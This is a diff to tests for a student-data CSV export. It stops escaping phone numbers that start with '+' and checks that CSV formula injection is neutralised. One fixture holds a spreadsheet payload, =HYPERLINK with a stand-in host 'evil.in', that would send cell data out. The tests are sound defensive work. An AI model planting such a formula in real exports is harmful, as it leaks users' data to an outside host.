@@ -34,7 +34,7 @@ test('all columns of all students, as UTF-8 with a byte order mark and CRLF', as
     '\uFEFFStudent ID,First Name,Middle Name,Last Name,Email,Class,Course,Batches,Active,Verified,' +
       'Date of Birth,Contact Number 1,Contact Number 2,School or College Name,' +
       'Board or University Name,Address,City,District,State,PIN,Notes\r\n' +
-      `${riya.profile.student_id},Riya,অ,Banerjee,riya@example.in,Class 9,,,Yes,No,2011-08-14,'+919830041276,,` +
+      `${riya.profile.student_id},Riya,অ,Banerjee,riya@example.in,Class 9,,,Yes,No,2011-08-14,+919830041276,,` +
       'Ballygunge Girls’ High School,WBBSE,27 Lake Road,Kolkata,Kolkata,West Bengal,700029,\r\n',
   )
 })
@@ -105,7 +105,7 @@ test('what a spreadsheet would run as a formula is text [S106]', async ({ academ
 
   expect(await linesOf(academy, '?columns=first_name,last_name,contact_number_1')).toEqual([
     'First Name,Last Name,Contact Number 1',
-    `"'=HYPERLINK(""http://evil.in""&A1)",'@SUM(1),'+919830041276`,
+    `"'=HYPERLINK(""http://evil.in""&A1)",'@SUM(1),+919830041276`,
   ])
   expect((await exported(academy, '?columns=notes')).body).toContain(`"'-2+3\n=1"`)
 })
